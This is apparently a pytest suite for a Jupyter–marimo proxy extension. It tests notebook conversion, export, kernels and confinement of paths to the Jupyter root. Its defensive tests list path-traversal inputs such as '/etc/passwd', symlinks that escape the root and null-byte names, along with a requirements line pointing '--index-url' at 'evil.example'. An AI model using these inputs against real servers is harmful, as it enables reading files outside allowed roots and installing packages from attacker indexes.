"""Jupyter and marimo side by side: convert, export, new, open as app, requirements.txt,
the "Python (marimo venv)" kernel; and paths confined to the Jupyter root."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys

import nbformat
import pytest

from jupyter_process import JupyterServer

API = "jupyter-marimo-proxy/"


def sample_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Sample\n\nA notebook with **markdown**, code, a shell line and a magic."),
        nbformat.v4.new_code_cell("!pip install jmp-not-needed"),
        nbformat.v4.new_code_cell("%time total = sum(range(10))"),
        nbformat.v4.new_code_cell("import statistics\nvalues = [1, 2, 3, 4]\nmean = statistics.mean(values)"),
        nbformat.v4.new_code_cell("print('mean is', mean)"),
    ]
    return nb


@pytest.fixture(scope="module")
def server(tmp_path_factory, wheelhouse):
    base = tmp_path_factory.mktemp("nb")
    root = base / "root"
    (root / "project").mkdir(parents=True)
    nbformat.write(sample_notebook(), root / "project" / "sample.ipynb")
    jupyter = JupyterServer(
        root_dir=root,
        state_dir=base / "state",
        extra_args=[f"--MarimoProxy.find_links={wheelhouse}", "--MarimoProxy.no_index=True"],
    ).start()
    yield jupyter
    jupyter.stop()


def venv_python(server: JupyterServer) -> str:
    return str(server.state_dir / "venv" / "bin" / "python")


def test_convert_ipynb_to_marimo_gives_a_checked_runnable_notebook(server):
    response = server.post(API + "convert", json={"path": "project/sample.ipynb"})
    assert response.status_code == 200, response.text
    assert response.json()["path"] == "project/sample.marimo.py"
    converted = server.root_dir / "project" / "sample.marimo.py"
    source = converted.read_text()
    assert "marimo.App" in source and "statistics.mean" in source
    check = subprocess.run([venv_python(server), "-m", "marimo", "check", str(converted)], capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    run = subprocess.run([venv_python(server), str(converted)], capture_output=True, text=True, cwd=converted.parent)
    assert run.returncode == 0, run.stderr
    assert "mean is 2.5" in run.stdout


def test_convert_asks_before_overwriting(server):
    target = server.root_dir / "project" / "sample.marimo.py"
    target.write_text("# the user's edits\n")
    response = server.post(API + "convert", json={"path": "project/sample.ipynb"})
    assert response.status_code == 409
    assert response.json()["target"] == "project/sample.marimo.py"
    assert target.read_text() == "# the user's edits\n"
    response = server.post(API + "convert", json={"path": "project/sample.ipynb", "overwrite": True})
    assert response.status_code == 200
    assert "marimo.App" in target.read_text()


_folders = itertools.count(1)


@pytest.fixture()
def twins(server):
    """A folder of its own with x.ipynb and x.marimo.py both there: every
    convert or export in it meets an existing target."""
    folder = server.root_dir / f"saveas-{next(_folders)}"
    folder.mkdir()
    nbformat.write(sample_notebook(), folder / "x.ipynb")
    response = server.post(API + "convert", json={"path": f"{folder.name}/x.ipynb"})
    assert response.status_code == 200, response.text
    return folder


def test_a_conflict_suggests_a_free_name_in_jupyters_copy_style(server, twins):
    name = twins.name
    response = server.post(API + "convert", json={"path": f"{name}/x.ipynb"})
    assert response.status_code == 409
    assert response.json()["target"] == f"{name}/x.marimo.py"
    # The whole suffix is kept, and a taken copy name is skipped.
    assert response.json()["suggestion"] == f"{name}/x-Copy1.marimo.py"
    (twins / "x-Copy1.marimo.py").write_text("# taken\n")
    assert server.post(API + "convert", json={"path": f"{name}/x.ipynb"}).json()["suggestion"] == (
        f"{name}/x-Copy2.marimo.py"
    )
    response = server.post(API + "export", json={"path": f"{name}/x.marimo.py"})
    assert response.status_code == 409
    assert response.json()["suggestion"] == f"{name}/x-Copy1.ipynb"


def test_convert_and_export_under_another_name(server, twins):
    name = twins.name
    before = {p.name: p.read_bytes() for p in twins.iterdir()}
    response = server.post(API + "convert", json={"path": f"{name}/x.ipynb", "target": f"{name}/other.py"})
    assert response.status_code == 200, response.text
    assert response.json()["path"] == f"{name}/other.py"
    assert "statistics.mean" in (twins / "other.py").read_text()
    response = server.post(API + "export", json={"path": f"{name}/x.marimo.py", "target": f"{name}/other.ipynb"})
    assert response.status_code == 200, response.text
    exported = nbformat.read(twins / "other.ipynb", as_version=4)
    assert exported.metadata.kernelspec.name == "marimo-venv"
    # A relative path into a subfolder of the root is fine too.
    (server.root_dir / "elsewhere").mkdir(exist_ok=True)
    response = server.post(API + "convert", json={"path": f"{name}/x.ipynb", "target": f"elsewhere/{name}.marimo.py"})
    assert response.status_code == 200, response.text
    assert (server.root_dir / "elsewhere" / f"{name}.marimo.py").is_file()
    # Nothing that was there changed.
    assert {p: (twins / p).read_bytes() for p in before} == before


def test_another_name_that_exists_is_not_overwritten_unless_asked(server, twins):
    name = twins.name
    (twins / "mine.py").write_text("# the user's script\n")
    response = server.post(API + "convert", json={"path": f"{name}/x.ipynb", "target": f"{name}/mine.py"})
    assert response.status_code == 409
    assert response.json()["target"] == f"{name}/mine.py"
    assert response.json()["suggestion"] == f"{name}/mine-Copy1.py"
    assert (twins / "mine.py").read_text() == "# the user's script\n"
    response = server.post(
        API + "convert", json={"path": f"{name}/x.ipynb", "target": f"{name}/mine.py", "overwrite": True}
    )
    assert response.status_code == 200
    assert "marimo.App" in (twins / "mine.py").read_text()


@pytest.mark.parametrize(
    "route, target, status, words",
    [
        ("convert", "{f}/x.ipynb", 400, "must end with .py"),
        ("convert", "{f}/x.txt", 400, "must end with .py"),
        ("convert", "{f}/.py", 400, "must end with .py"),
        ("export", "{f}/x.py", 400, "must end with .ipynb"),
        ("convert", "", 400, "empty"),
        ("convert", 7, 400, "relative to the Jupyter root"),
        ("convert", "{f}/", 400, "must end with .py"),
        ("convert", "{f}/ x.py", 400, "starts or ends with a space"),
        ("convert", "../outside/x.py", 400, "leaves the Jupyter root"),
        ("convert", "{f}/../../x.py", 400, "leaves the Jupyter root"),
        ("convert", "/tmp/x.py", 400, "absolute"),
        ("convert", "~/x.py", 400, "absolute"),
        ("convert", "dir-out/x.py", 403, "outside the Jupyter root"),
        ("convert", "link-out.py", 400, "symbolic link"),
        ("convert", "missing-folder/x.py", 404, "does not exist"),
        ("convert", "{f}/a-folder.py", 400, "not a regular file"),
        ("convert", "{f}/" + "n" * 260 + ".py", 400, "longer than 255 bytes"),
    ],
)
def test_a_bad_new_name_is_refused_in_plain_words_with_nothing_written(server, hostile, twins, route, target, status, words):
    paths, outside = hostile
    if not os.path.lexists(server.root_dir / "link-out.py"):
        os.symlink(outside / "secret.marimo.py", server.root_dir / "link-out.py")
    (twins / "a-folder.py").mkdir()
    source = f"{twins.name}/x.ipynb" if route == "convert" else f"{twins.name}/x.marimo.py"
    if isinstance(target, str):
        target = target.replace("{f}", twins.name)
    before = snapshot(server.root_dir, outside)
    response = server.post(API + route, json={"path": source, "target": target, "overwrite": True})
    assert response.status_code == status, response.text
    assert words in response.json()["message"], response.json()["message"]
    assert snapshot(server.root_dir, outside) == before


def test_a_hidden_new_name_is_refused_like_jupyter_hides_it(server, twins):
    response = server.post(API + "convert", json={"path": f"{twins.name}/x.ipynb", "target": f"{twins.name}/.hidden.py"})
    assert response.status_code == 403
    assert "hidden" in response.json()["message"]
    assert not (twins / ".hidden.py").exists()


def test_export_marimo_to_a_valid_ipynb(server):
    server.post(API + "convert", json={"path": "project/sample.ipynb", "overwrite": True})
    (server.root_dir / "project" / "sample.ipynb").unlink()
    response = server.post(API + "export", json={"path": "project/sample.marimo.py"})
    assert response.status_code == 200, response.text
    assert response.json()["path"] == "project/sample.ipynb"
    exported = nbformat.read(server.root_dir / "project" / "sample.ipynb", as_version=4)
    nbformat.validate(exported)
    code = "\n".join(cell.source for cell in exported.cells if cell.cell_type == "code")
    assert "statistics.mean(values)" in code


def test_export_refuses_a_python_file_that_is_not_marimo(server):
    plain = server.root_dir / "plain.py"
    plain.write_text("print('just a script')\n")
    response = server.post(API + "export", json={"path": "plain.py"})
    assert response.status_code == 400
    assert "not a marimo notebook" in response.json()["message"]
    assert not (server.root_dir / "plain.ipynb").exists()


def test_marimos_own_error_message_reaches_the_user(server):
    broken = server.root_dir / "broken.ipynb"
    broken.write_text("{ this is not json")
    response = server.post(API + "convert", json={"path": "broken.ipynb"})
    assert response.status_code == 422
    body = response.json()
    assert body["message"].startswith("marimo could not do it:")
    assert "\n" not in body["message"] and len(body["message"]) < 400
    assert "Traceback" in body["detail"] or len(body["detail"]) >= len(body["message"]) - 25
    assert not (server.root_dir / "broken.marimo.py").exists()


def test_new_notebook_is_numbered_and_valid(server):
    first = server.post(API + "new", json={"directory": "project"})
    second = server.post(API + "new", json={"directory": "project"})
    assert first.status_code == second.status_code == 201
    assert first.json()["path"] == "project/untitled.marimo.py"
    assert second.json()["path"] == "project/untitled1.marimo.py"
    check = subprocess.run(
        [venv_python(server), "-m", "marimo", "check", str(server.root_dir / "project" / "untitled1.marimo.py")],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0, check.stdout
    root_level = server.post(API + "new", json={})
    assert root_level.json()["path"] == "untitled.marimo.py"


def test_run_as_app_is_served_through_the_proxy(server):
    server.post(API + "convert", json={"path": "project/sample.ipynb", "overwrite": True})
    response = server.get(API + "notebook-url", params={"path": "project/sample.marimo.py", "mode": "app"})
    assert response.status_code == 200, response.text
    url = response.json()["url"]
    # Apps run on marimo run's route: a kernel of their own, never the editor's session.
    assert url.startswith("/marimo-apps/?") and "file=project%2Fsample.marimo.py" in url
    page = server.get(url.lstrip("/"))
    assert page.status_code == 200 and "<marimo-version" in page.text
    assert 'data-filename="' in page.text or "sample.marimo.py" in page.text
    # marimo run sends no code to the browser, and its route is guarded like the editor's.
    assert "def _(" not in page.text
    assert server.get(url.lstrip("/").split("?")[0] + "auth/token").status_code == 404
    edit = server.get(API + "notebook-url", params={"path": "project/sample.marimo.py"}).json()
    assert edit["url"].startswith("/marimo/?")
    not_marimo = server.get(API + "notebook-url", params={"path": "plain.py"})
    assert not_marimo.status_code == 400


def test_requirements_file_installs_into_the_venv(server):
    (server.root_dir / "requirements.txt").write_text("# shared by both notebooks\njmp-withdep\njmp-alpha==1.0  # pinned\n")
    response = server.post(API + "packages", json={"requirements_file": "requirements.txt"})
    assert response.status_code == 202, response.text
    job = server.wait_job(response.headers["Location"])
    assert job["state"] == "succeeded", job["log"]
    assert job["specs"] == ["jmp-withdep", "jmp-alpha==1.0"]


def test_requirements_file_with_options_is_refused_naming_the_line(server):
    (server.root_dir / "evil-requirements.txt").write_text("jmp-alpha\n--index-url http://evil.example/simple\n")
    response = server.post(API + "packages", json={"requirements_file": "evil-requirements.txt"})
    assert response.status_code == 400
    assert "line 2" in response.json()["message"]


def test_marimo_venv_kernel_runs_in_the_user_venv(server):
    from jupyter_client.manager import start_new_kernel

    specs = server.get("api/kernelspecs").json()["kernelspecs"]
    assert specs["marimo-venv"]["spec"]["display_name"] == "Python (marimo venv)"
    server.post(API + "convert", json={"path": "project/sample.ipynb", "overwrite": True})  # the venv exists
    kernel_dir = server.state_dir / "kernels"
    os.environ["JUPYTER_PATH"] = str(server.state_dir)  # so jupyter_client finds kernels/marimo-venv
    try:
        manager, client = start_new_kernel(kernel_name="marimo-venv", startup_timeout=60)
    finally:
        os.environ.pop("JUPYTER_PATH")
    try:
        outputs = []
        client.execute_interactive("import sys; print(sys.prefix)", output_hook=lambda m: outputs.append(m), timeout=60)
        text = "".join(m["content"].get("text", "") for m in outputs if m["msg_type"] == "stream")
        assert text.strip() == str(server.state_dir / "venv")
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)
    assert json.loads((kernel_dir / "marimo-venv" / "kernel.json").read_text())["argv"][0] == venv_python(server)


def hostile_paths(root, outside):
    os.symlink(outside / "secret.ipynb", root / "link-out.ipynb")
    os.symlink(outside, root / "dir-out")
    (root / "a-folder.ipynb").mkdir(exist_ok=True)
    return [
        "../outside/secret.ipynb",
        "project/../../outside/secret.ipynb",
        str(outside / "secret.ipynb"),
        "/etc/passwd",
        "~/secret.ipynb",
        "link-out.ipynb",
        "dir-out/secret.ipynb",
        "missing.ipynb",
        "a-folder.ipynb",
        "",
        "bad\x00name.ipynb",
        "C:\\Windows\\x.ipynb",
        "\\\\server\\share\\x.ipynb",
    ]


@pytest.fixture(scope="module")
def hostile(server, tmp_path_factory):
    outside = server.root_dir.parent / "outside"
    outside.mkdir()
    nbformat.write(sample_notebook(), outside / "secret.ipynb")
    (outside / "secret.marimo.py").write_text("import marimo\napp = marimo.App()\n")
    return hostile_paths(server.root_dir, outside), outside


def snapshot(*folders) -> set[str]:
    return {os.path.join(d, f) for folder in folders for d, _, files in os.walk(folder) for f in files}


@pytest.mark.parametrize("route", ["convert", "export"])
@pytest.mark.parametrize("index", range(13))
def test_hostile_paths_are_refused_with_nothing_written(server, hostile, route, index):
    paths, outside = hostile
    before = snapshot(server.root_dir, outside)
    response = server.post(API + route, json={"path": paths[index], "overwrite": True})
    assert response.status_code in (400, 403, 404), (paths[index], response.status_code, response.text)
    assert response.json()["message"]
    assert snapshot(server.root_dir, outside) == before


@pytest.mark.parametrize("directory", ["..", "/tmp", "dir-out", "project/../..", "missing-dir", "plain.py"])
def test_new_notebook_outside_the_root_is_refused(server, hostile, directory):
    paths, outside = hostile
    before = snapshot(server.root_dir, outside)
    response = server.post(API + "new", json={"directory": directory})
    assert response.status_code in (400, 403, 404)
    assert snapshot(server.root_dir, outside) == before


@pytest.mark.parametrize(
    "path", ["../outside/secret.marimo.py", "dir-out/secret.marimo.py", "/etc/passwd", "missing.marimo.py"]
)
def test_notebook_url_outside_the_root_is_refused(server, hostile, path):
    response = server.get(API + "notebook-url", params={"path": path})
    assert response.status_code in (400, 403, 404)


def test_requirements_file_outside_the_root_is_refused(server, hostile):
    paths, outside = hostile
    (outside / "requirements.txt").write_text("jmp-alpha\n")
    for path in ["../outside/requirements.txt", "dir-out/requirements.txt", str(outside / "requirements.txt")]:
        response = server.post(API + "packages", json={"requirements_file": path})
        assert response.status_code in (400, 403), path


def test_paths_unit():
    from jupyter_marimo_proxy.paths import PathRefused, resolve_in_root

    root = os.path.dirname(sys.executable)
    with pytest.raises(PathRefused):
        resolve_in_root(root, "..", kind="dir")
    assert resolve_in_root(root, ".", kind="dir") == __import__("pathlib").Path(os.path.realpath(root))
